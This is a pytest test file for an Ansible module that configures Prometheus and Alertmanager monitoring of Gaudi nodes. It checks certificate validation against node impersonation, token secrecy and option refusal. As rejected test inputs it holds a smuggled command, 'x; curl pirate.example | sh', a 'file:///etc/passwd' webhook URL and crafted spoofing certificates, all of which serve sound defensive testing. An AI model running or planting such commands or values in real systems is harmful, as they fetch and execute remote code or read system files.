# Copyright 2026 The gaudi3.scale authors
# SPDX-License-Identifier: Apache-2.0
"""A machine that watches: what it reads, whom it answers, where alerts go, and what is refused before anything."""

from __future__ import annotations

import grp
import json
import os
import re
import ssl
import stat
import subprocess
import tempfile
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass, field, replace
from functools import cache
from pathlib import Path
from typing import Any

import pytest
from ansible_collections.gaudi3.scale.plugins.module_utils._errors import GaudiError
from ansible_collections.gaudi3.scale.plugins.module_utils._monitoring.files import alertmanager
from ansible_collections.gaudi3.scale.plugins.module_utils._monitoring.options import (
    ALERTS_PAGE,
    Options,
    Service,
    Webhook,
)
from ansible_collections.gaudi3.scale.plugins.module_utils._monitoring.state import converge
from ansible_collections.gaudi3.scale.plugins.module_utils._node.commands import CommandResult, run_process
from ansible_collections.gaudi3.scale.plugins.module_utils._node.tls_identity import Identity, certificate_of, make

PROMETHEUS, ALERTMANAGER = "prometheus.service", "prometheus-alertmanager.service"


@cache
def certificate(*names: str, again: int = 0) -> str:
    """A node's own; ``again`` tells two of the same names apart."""
    with tempfile.TemporaryDirectory(prefix=f"certificate-{again}-") as place:
        made = Identity(place, names, grp.getgrgid(os.getegid()).gr_name)
        make(made, run_process)
        return certificate_of(made)


ONE, TWO = certificate("gaudi-01", "10.0.0.11"), certificate("gaudi-02", "10.0.0.12")
OPTIONS = Options(
    state="present",
    nodes={"gaudi-01": "10.0.0.11:9100", "gaudi-02": "10.0.0.12:9100"},
    node_certificates={"gaudi-01": ONE, "gaudi-02": TWO},
    rules={"gaudi_cards.yml": "groups: []\n"},
    retention="30d",
    address="127.0.0.1",
    port=9090,
    alertmanager_port=9093,
    all_interfaces=False,
    readers=(),
    webhooks=(),
    quarantine=None,
    names=("monitoring", "127.0.0.1"),
    group=grp.getgrgid(os.getegid()).gr_name,
    prometheus=Service(PROMETHEUS, "/usr/bin/prometheus"),
    alertmanager=Service(ALERTMANAGER, "/usr/bin/prometheus-alertmanager"),
)
TOKEN = "a-token-of-somebody"


@dataclass
class Machine:
    """systemd, ss and the two checkers; ``refuses`` is the one of these that does not like what it gets."""

    root: Path
    units: set[str] = field(default_factory=set)
    listening: set[int] = field(default_factory=set)
    refuses: str = ""
    calls: list[str] = field(default_factory=list)

    def __call__(
        self, argv: Sequence[str], *, timeout: float | None = None, env: Mapping[str, str] | None = None
    ) -> CommandResult:
        if argv[0] == "openssl":
            return run_process(argv, timeout=timeout, env=env)
        if argv[0] == "ss":
            return CommandResult(0, "LISTEN\n" if int(argv[-1].rpartition(":")[2]) in self.listening else "", "")
        if argv[0] in ("promtool", "amtool"):
            return CommandResult(int(argv[0] == self.refuses), "", "line 3: it is wrong\n")
        verb, unit = argv[1], argv[-1]
        if verb in ("is-enabled", "is-active"):
            return CommandResult(0 if unit in self.units else 1, "", "")
        self.calls.append(verb)
        self.units = self.units - {unit} if verb == "disable" else self.units | ({unit} - {verb})
        return CommandResult(0, "", "")

    def run(self, check_mode: bool = False, **changed: Any) -> dict[str, Any]:
        self.calls.clear()
        return converge(replace(OPTIONS, root=str(self.root), **changed), self, check_mode)

    def text(self, name: str) -> str:
        return (self.root / "etc/gaudi3_scale/monitoring" / name).read_text()

    def document(self, name: str) -> Any:
        """A file that is JSON under a comment."""
        return json.loads(self.text(name).partition("\n")[2])

    @property
    def files(self) -> list[Path]:
        return [path for path in self.root.rglob("*") if path.is_file()]


@pytest.fixture
def machine(tmp_path: Path) -> Machine:
    return Machine(tmp_path)


def test_it_watches_and_a_second_run_changes_nothing(machine: Machine) -> None:
    assert machine.run()["changed"]
    assert machine.units == {PROMETHEUS, ALERTMANAGER}
    second = machine.run()
    assert (second["changed"], second["steps"], second["unknown"], machine.calls) == (False, [], [], [])


def test_check_mode_tells_all_and_touches_nothing(machine: Machine) -> None:
    foretold = machine.run(check_mode=True)
    assert (machine.files, machine.calls) == ([], [])
    assert machine.run()["steps"] == foretold["steps"]


def test_a_node_is_called_as_in_the_inventory(machine: Machine) -> None:
    machine.run()
    assert json.loads(machine.text("nodes.json"))[0] == {
        "targets": ["10.0.0.11:9100"],
        "labels": {"instance": "gaudi-01"},
    }
    (scraped,) = machine.document("prometheus.yml")["scrape_configs"]
    assert scraped["scheme"] == "https"
    assert scraped["tls_config"]["ca_file"] == "nodes.pem"


def test_the_vendors_exporter_is_read_beside_it_where_that_was_said(machine: Machine) -> None:
    machine.run(vendor_port=41611)
    (_own, vendor) = machine.document("prometheus.yml")["scrape_configs"]
    assert (vendor["job_name"], vendor["scrape_interval"]) == ("gaudi_vendor", "30s")
    (place,) = vendor["relabel_configs"]
    assert re.sub(place["regex"], "\\1:41611", "10.0.0.11:9100") == "10.0.0.11:41611"
    assert place["replacement"] == "$1:41611"
    (kept, _labels) = vendor["metric_relabel_configs"]
    assert not re.fullmatch(kept["regex"], "accelerator_power_usage_watts")


def test_a_run_over_some_nodes_forgets_no_other(machine: Machine) -> None:
    machine.run()
    new = certificate("gaudi-02", "10.0.0.12", again=1)
    machine.run(node_certificates={"gaudi-01": "", "gaudi-02": new})
    assert machine.text("nodes.pem") == ONE + new


def test_a_node_that_was_never_heard_is_named(machine: Machine) -> None:
    assert machine.run(node_certificates={"gaudi-01": ONE})["unknown"] == ["gaudi-02"]


def of_everyone(name: str) -> str:
    """As a system's own configuration makes one: it may sign others."""
    with tempfile.TemporaryDirectory() as place:
        made = f"{place}/made.pem"
        command = ["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes"]
        named = ["-subj", f"/CN={name}", "-addext", f"subjectAltName=DNS:{name}"]
        subprocess.run([*command, *named, "-keyout", f"{place}/key.pem", "-out", made], check=True, capture_output=True)
        return Path(made).read_text(encoding="ascii")


def made(extensions: str, *, version: int = 3) -> str:
    """A certificate with these lines of openssl's configuration; of an older version it has them all the same."""
    with tempfile.TemporaryDirectory() as place:
        Path(place, "made.cnf").write_text(
            f"[req]\ndistinguished_name=name\nx509_extensions=more\n[name]\n[more]\n{extensions}\n"
        )
        command = ["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes"]
        words = ["-config", f"{place}/made.cnf", "-subj", "/CN=a", "-keyout", f"{place}/key.pem"]
        subprocess.run([*command, *words, "-out", f"{place}/made.pem"], check=True, capture_output=True)
        der = ssl.PEM_cert_to_DER_cert(Path(place, "made.pem").read_text(encoding="ascii"))
    third, other = (bytes([0xA0, 3, 2, 1, number]) for number in (2, version - 1))
    return ssl.DER_cert_to_PEM_cert(der.replace(third, other, 1))


LEAF = "basicConstraints=critical,CA:FALSE"


def named(*names: str) -> Callable[[], str]:
    """One of ours but for its names."""
    return lambda: made(f"{LEAF}\nsubjectAltName={','.join(names)}")


@pytest.mark.parametrize(
    ("told", "why"),
    [
        (lambda: certificate("gaudi-02", "gaudi-01"), "is for gaudi-01 as well, which belongs to another node"),
        (lambda: certificate("gaudi-02", "10.0.0.11"), "is for 10.0.0.11 as well"),
        # Go takes a mapped address for the one in it, and names in any case and with a last dot.
        (named("DNS:gaudi-02", "IP:::ffff:10.0.0.11"), "is for 10.0.0.11 as well"),
        (named("DNS:gaudi-02", "IP:::ffff:a00:b"), "is for 10.0.0.11 as well"),
        (named("DNS:gaudi-02", "DNS:GAUDI-01"), "is for gaudi-01 as well"),
        (named("DNS:gaudi-02", "DNS:Gaudi-01."), "is for gaudi-01 as well"),
        (named("DNS:gaudi-02", "DNS:10.0.0.11"), "is for 10.0.0.11 as well"),
        (
            named("DNS:gaudi-02", "DNS:010.000.000.011"),
            "is for '010.000.000.011', which the inventory does not give it",
        ),
        (named("DNS:gaudi-02", "DNS:*"), "is for '*', which the inventory does not give it"),
        (named("DNS:gaudi-02", "DNS:*.example.org"), "is for '*.example.org', which the inventory does not give it"),
        (named("DNS:gaudi-02", "DNS:fe80::1%eth0"), "is for 'fe80::1%eth0', which the inventory does not give it"),
        (named("DNS:gaudi-02", "DNS:gaudi-03"), "is for 'gaudi-03', which the inventory does not give it"),
        (named("DNS:gaudi-02", "URI:https://gaudi-01/"), "is for 'URI:https://gaudi-01/', which is neither a name"),
        (named("DNS:gaudi-02", "email:a@gaudi-01"), "is for 'email:a@gaudi-01', which is neither a name"),
        (lambda: certificate("gaudi-03"), "is for 'gaudi-03', which the inventory does not give it"),
        (lambda: of_everyone("gaudi-02"), "may sign other certificates"),
        # The name reads as if it signed none.
        (lambda: made("basicConstraints=CA:TRUE\nsubjectAltName=DNS:gaudi-02,DNS:CA:FALSE"), "may sign other"),
        (lambda: made("subjectAltName=DNS:gaudi-02,DNS:CA:FALSE"), "is not one that the role gaudi_exporter makes"),
        # Of version 1 Go reads no extension, and lets it sign.
        (lambda: made(f"{LEAF}\nsubjectAltName=DNS:gaudi-02", version=1), "is not one that the role"),
        (lambda: made(f"{LEAF}\nsubjectAltName=DNS:gaudi-02", version=2), "is not one that the role"),
        (lambda: made(LEAF), "is not one that the role gaudi_exporter makes"),
        (lambda: ONE + TWO, "is not one certificate in PEM"),
        (lambda: "-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n", "is not one that the role"),
        (lambda: "x" * 100_000, "is not one certificate in PEM"),
    ],
    ids=range(24),
)
def test_a_node_cannot_answer_for_another_one(machine: Machine, told: Callable[[], str], why: str) -> None:
    done = machine.run(node_certificates={"gaudi-01": ONE, "gaudi-02": told()})
    assert (done["unknown"], machine.text("nodes.pem")) == (["gaudi-02"], ONE)
    (said,) = done["warnings"]
    assert said.startswith(f"The certificate of gaudi-02 {why}")
    assert said.endswith(
        ", so its metrics are not trusted; check that node, and its gaudi_exporter_names in the inventory."
    )


@pytest.mark.parametrize(
    ("nodes", "names", "own"),
    [
        ({"gaudi-02": "10.0.0.12:9100"}, {}, ("DNS:GAUDI-02.", "IP:::ffff:10.0.0.12")),
        ({"Gaudi-02": "[fd00:0:0::2]:9100"}, {}, ("DNS:gaudi-02", "IP:fd00::2")),
        (
            {"gaudi-02": "10.0.0.12:9100"},
            {"gaudi-02": ["n2.example.org", "fd00::2"]},
            ("DNS:N2.Example.org", "IP:fd00::2"),
        ),
    ],
)
def test_a_node_is_believed_in_any_writing_of_its_own_names(
    machine: Machine, nodes: dict[str, str], names: dict[str, list[str]], own: tuple[str, ...]
) -> None:
    told = dict.fromkeys(nodes, named(*own)())
    assert machine.run(nodes=nodes, node_names=names, node_certificates=told)["unknown"] == []


def test_what_an_earlier_release_believed_is_asked_again(machine: Machine) -> None:
    machine.run()
    place = machine.root / "etc/gaudi3_scale/monitoring"
    wide = named("DNS:gaudi-02", "IP:::ffff:10.0.0.11")()
    (place / "certificates.json").write_text(json.dumps({"gaudi-01": ONE, "gaudi-02": wide}))
    (place / "names.json").unlink()
    assert machine.run(node_certificates={})["unknown"] == ["gaudi-02"]


def test_what_was_believed_is_asked_again_where_a_node_came(machine: Machine) -> None:
    wide = certificate("gaudi-02", "10.0.0.12", "gaudi-03")
    known = {"gaudi-02": ["gaudi-03"]}
    assert not machine.run(node_certificates={"gaudi-01": ONE, "gaudi-02": wide}, node_names=known)["unknown"]
    more = {**OPTIONS.nodes, "gaudi-03": "10.0.0.13:9100"}
    assert machine.run(nodes=more, node_certificates={}, node_names=known)["unknown"] == ["gaudi-02", "gaudi-03"]


def test_what_was_believed_is_asked_again_where_the_inventory_took_a_name_away(machine: Machine) -> None:
    wide = certificate("gaudi-02", "10.0.0.12", "n2")
    told = {"gaudi-01": ONE, "gaudi-02": wide}
    assert not machine.run(node_certificates=told, node_names={"gaudi-02": ["n2"]})["unknown"]
    assert machine.run(node_certificates={})["unknown"] == ["gaudi-02"]


def test_a_node_takes_no_alert_of_another_one_away(machine: Machine) -> None:
    machine.run(vendor_port=41611)
    for scraped in machine.document("prometheus.yml")["scrape_configs"]:
        assert scraped["sample_limit"] and scraped["body_size_limit"] and scraped["label_limit"]
        dropped = [one["regex"] for one in scraped["metric_relabel_configs"] if one["action"] == "labeldrop"]
        assert all(re.fullmatch(dropped[0], label) for label in ("severity", "gaudi_action", "alertname"))
    named, training, serving, _labels = machine.document("prometheus.yml")["scrape_configs"][0][
        "metric_relabel_configs"
    ]
    for name in ("up", "ALERTS", "ALERTS_FOR_STATE", "training:gaudi_job_tokens_per_second:avg10m", "scrape_x"):
        assert re.fullmatch(named["regex"], name)
    assert not re.fullmatch(named["regex"], "gaudi_port_up")
    assert all(re.fullmatch(training["regex"], name) for name in ("", "llama-3.1_8B"))
    assert all(re.fullmatch(serving["regex"], name) for name in ("", "chat-2"))
    for told in (training, serving):
        assert not re.fullmatch(told["regex"], "x; curl pirate.example | sh")


def test_an_alert_is_taken_from_prometheus_alone(machine: Machine) -> None:
    machine.run()
    assert machine.document("alertmanager_web.yml")["tls_server_config"]["client_auth_type"] == (
        "RequireAndVerifyClientCert"
    )
    (sent,) = machine.document("prometheus.yml")["alerting"]["alertmanagers"]
    assert (sent["scheme"], sent["tls_config"]["server_name"]) == ("https", "monitoring")
    unit = (machine.root / f"etc/systemd/system/{ALERTMANAGER}.d/gaudi3-scale.conf").read_text()
    assert "--web.config.file=/etc/gaudi3_scale/monitoring/alertmanager_web.yml" in unit


def test_where_webhooks_are_is_shown_to_nobody(machine: Machine) -> None:
    done = machine.run(webhooks=(Webhook("https://chat.example.com/hooks/T0/of-our-own"),))
    (kept,) = [path for path in machine.files if "of-our-own" in path.read_text()]
    assert stat.S_IMODE(kept.stat().st_mode) == 0o640
    assert "of-our-own" not in json.dumps(done)
    assert f"file {kept}" in done["steps"]


def test_a_node_that_went_is_believed_no_more(machine: Machine) -> None:
    machine.run()
    machine.run(nodes={"gaudi-01": "10.0.0.11:9100"}, node_certificates={})
    assert machine.text("nodes.pem") == ONE


def test_it_answers_itself_alone_and_has_no_password(machine: Machine) -> None:
    machine.run()
    unit = (machine.root / f"etc/systemd/system/{PROMETHEUS}.d/gaudi3-scale.conf").read_text()
    assert "--web.listen-address=127.0.0.1:9090 " in unit
    other = (machine.root / f"etc/systemd/system/{ALERTMANAGER}.d/gaudi3-scale.conf").read_text()
    assert "--web.listen-address=127.0.0.1:9093 --cluster.listen-address=\n" in other
    assert not [path for path in machine.files if "basic_auth" in path.read_text()]


def test_a_site_gives_both_other_ports_and_values_another_time(machine: Machine) -> None:
    machine.run(port=19090, alertmanager_port=19093, retention="7d", names=("watcher.example.org",))
    units = machine.root / "etc/systemd/system"
    unit = (units / f"{PROMETHEUS}.d/gaudi3-scale.conf").read_text()
    assert "--web.listen-address=127.0.0.1:19090 --storage.tsdb.retention.time=7d\n" in unit
    other = (units / f"{ALERTMANAGER}.d/gaudi3-scale.conf").read_text()
    assert "--web.listen-address=127.0.0.1:19093 " in other
    assert "127.0.0.1:19093" in machine.text("prometheus.yml")


def test_all_addresses_are_for_who_says_so_and_has_readers(machine: Machine) -> None:
    assert machine.run(address="0.0.0.0", all_interfaces=True, readers=(ONE,))["changed"]


def test_alerts_go_where_they_ask_to(machine: Machine) -> None:
    hooks = (Webhook("https://pager.example.com/x", TOKEN), Webhook("http://10.0.0.9:8080/"))
    quarantine = Webhook("http://127.0.0.1:5050/", TOKEN)
    machine.run(webhooks=hooks, quarantine=quarantine)
    document = machine.document("alertmanager.yml")
    assert [route["receiver"] for route in document["route"]["routes"]] == ["quarantine", "site"]
    assert document["route"]["routes"][0]["matchers"] == ['gaudi_action="quarantine"']
    assert document["route"]["routes"][0]["continue"]
    assert document["route"]["routes"][0]["group_by"] == ["instance", "alertname"]
    assert document["receivers"][2]["webhook_configs"][0]["max_alerts"] == 10
    sent = {one["name"]: [hook["url"] for hook in one.get("webhook_configs", [])] for one in document["receivers"]}
    assert sent == {"nobody": [], "site": [hook.url for hook in hooks], "quarantine": [quarantine.url]}


def test_without_a_receiver_alerts_wait_for_who_looks(machine: Machine) -> None:
    machine.run()
    assert machine.document("alertmanager.yml")["route"]["routes"] == []


def test_a_token_is_in_a_file_of_its_own_and_in_nothing_that_is_shown(machine: Machine) -> None:
    done = machine.run(quarantine=Webhook("http://127.0.0.1:5050/", TOKEN))
    (kept,) = [path for path in machine.files if TOKEN in path.read_text()]
    assert stat.S_IMODE(kept.stat().st_mode) == 0o640
    assert TOKEN not in json.dumps(done)
    assert TOKEN not in alertmanager(replace(OPTIONS, quarantine=Webhook("http://127.0.0.1:5050/", TOKEN)))
    machine.run()
    assert not kept.exists()


def test_rules_of_the_site_stay_and_ours_go_with_their_release(machine: Machine) -> None:
    machine.run()
    rules = machine.root / "etc/gaudi3_scale/monitoring/rules"
    (rules / "site.yml").write_text("groups: []\n")
    machine.run(rules={"gaudi_nodes.yml": "groups: []\n"})
    assert sorted(path.name for path in rules.iterdir()) == ["gaudi_nodes.yml", "site.yml"]


def test_alerts_link_to_the_site_s_own_page_where_it_has_one(machine: Machine) -> None:
    rules = {"gaudi_cards.yml": f"runbook_url: {ALERTS_PAGE}#gaudicardhot\n"}
    machine.run(rules=rules)
    assert machine.text("rules/gaudi_cards.yml") == rules["gaudi_cards.yml"]
    machine.run(rules=rules, alerts_page="https://ops.example.org/gaudi/alerts.html")
    assert machine.text("rules/gaudi_cards.yml") == (
        "runbook_url: https://ops.example.org/gaudi/alerts.html#gaudicardhot\n"
    )


@pytest.mark.parametrize("refuses", ["promtool", "amtool"])
def test_what_the_distribution_s_own_checkers_refuse_is_not_written(machine: Machine, refuses: str) -> None:
    machine.refuses = refuses
    with pytest.raises(GaudiError, match=f"which {refuses} refuses: line 3: it is wrong"):
        machine.run()
    assert (machine.files, machine.calls) == ([], [])


def test_taken_away_both_are_off(machine: Machine) -> None:
    machine.run(quarantine=Webhook("http://127.0.0.1:5050/", TOKEN))
    machine.run(state="absent", nodes={})
    assert machine.units == set()
    assert not [path for path in machine.files if TOKEN in path.read_text()]
    assert not machine.run(state="absent", nodes={})["changed"]


def test_a_prometheus_of_the_site_is_not_taken_away(machine: Machine) -> None:
    machine.units |= {PROMETHEUS, ALERTMANAGER}
    assert not machine.run(state="absent", nodes={})["changed"]
    assert machine.units == {PROMETHEUS, ALERTMANAGER}


@pytest.mark.parametrize(
    ("changed", "sentence"),
    [
        ({"nodes": {}}, "nodes is empty, so there is nothing to watch"),
        ({"nodes": {"gaudi-01": "10.0.0.11"}}, "nodes has 'gaudi-01' at '10.0.0.11'; give an address and a port"),
        ({"nodes": {"gaudi-01": ["10.0.0.11:9100"]}}, "nodes has 'gaudi-01' at .* give an address and a port"),
        ({"rules": {"gaudi_cards.yml": None}}, "rules has None for 'gaudi_cards.yml'; give it as text"),
        ({"nodes": {"a": "10.0.0.11:9100", "b": "10.0.0.11:9100"}}, "nodes has a and b at one address"),
        ({"nodes": {"a": "10.0.0.11:9100", "b": "[::ffff:10.0.0.11]:9100"}}, "nodes has a and b at one address"),
        ({"nodes": {"a": "10.0.0.11:9100", "A": "10.0.0.12:9100"}}, "nodes has A and a at one name"),
        ({"nodes": {"a": "10.0.0.11:99999"}}, "nodes has 'a' at '10.0.0.11:99999'; give an address and a port"),
        ({"nodes": {"a": "010.0.0.11:9100"}}, "nodes has 'a' at '010.0.0.11:9100'; give an address and a port"),
        ({"nodes": {"a": "[fe80::1::2]:9100"}}, "nodes has 'a' at .* give an address and a port"),
        ({"nodes": {"{{ $value }}": "10.0.0.11:9100"}}, "nodes has a node .* give one of letters"),
        ({"nodes": {"a/b": "10.0.0.11:9100"}}, "nodes has a node 'a/b'; give one of letters"),
        ({"node_names": {"gaudi-01": "n1"}}, "node_names has 'n1' for 'gaudi-01'; give a list of names"),
        (
            {"node_names": {"gaudi-09": ["n9"]}},
            "node_names has .* for 'gaudi-09'; give a list of names for one of nodes",
        ),
        ({"node_names": {"gaudi-01": ["*.org"]}}, "node_names of gaudi-01 has '\\*.org'; give names of hosts"),
        ({"address": "0.0.0.0"}, "address is 0.0.0.0, which is every network"),
        ({"address": "10.0.0.2"}, "readers is empty, so everyone who reaches 10.0.0.2"),
        ({"port": 0}, "port is 0, which is not a port"),
        ({"alertmanager_port": 70000}, "alertmanager_port is 70000, which is not a port"),
        ({"alertmanager_port": 9090}, "port and alertmanager_port are both 9090; give each a separate one"),
        ({"vendor_port": 70000}, "vendor_port is 70000; give the port of the vendor's exporter, or 0 for none"),
        ({"retention": "a month"}, "retention is 'a month'; give a Prometheus duration"),
        ({"alerts_page": "ops.example.org/alerts"}, "alerts_page is 'ops.example.org/alerts'; give the page's address"),
        ({"alerts_page": "https://ops/{{ $value }}"}, "alerts_page is .* give the page's address without a section"),
        ({"alerts_page": "https://ops/alerts.html#x"}, "alerts_page is .* give the page's address without a section"),
        ({"rules": {"../x.yml": ""}}, "rules has a file '../x.yml'; name it gaudi_NAME.yml"),
        ({"quarantine": Webhook("file:///etc/passwd")}, "quarantine has the url 'file:///etc/passwd'"),
        ({"webhooks": (Webhook("https://me:secret@pager/"),)}, "webhooks has credentials in its url"),
        ({"webhooks": (Webhook("http://pager/", TOKEN),)}, "webhooks would send its token to pager over plain http"),
    ],
)
def test_what_cannot_be_meant_is_refused(machine: Machine, changed: dict[str, Any], sentence: str) -> None:
    with pytest.raises(GaudiError, match=sentence):
        machine.run(**changed)
    assert (machine.files, machine.calls) == ([], [])


@pytest.mark.parametrize("port", [9090, 9093])
def test_another_program_at_a_port_is_named(machine: Machine, port: int) -> None:
    machine.listening.add(port)
    with pytest.raises(GaudiError, match=f"something answers at port {port} that is not"):
        machine.run()
    assert machine.files == []


@pytest.mark.parametrize("given", ["--storage.tsdb.retention.time=90d", "--web.config.file=/etc/web.yml"])
def test_what_would_be_given_twice_is_named(machine: Machine, given: str) -> None:
    (machine.root / "etc/default").mkdir(parents=True)
    (machine.root / "etc/default/prometheus").write_text(f'# --config.file\nARGS="{given}"\n')
    with pytest.raises(GaudiError, match=f"has {given.partition('=')[0]}, which this module sets as well"):
        machine.run()
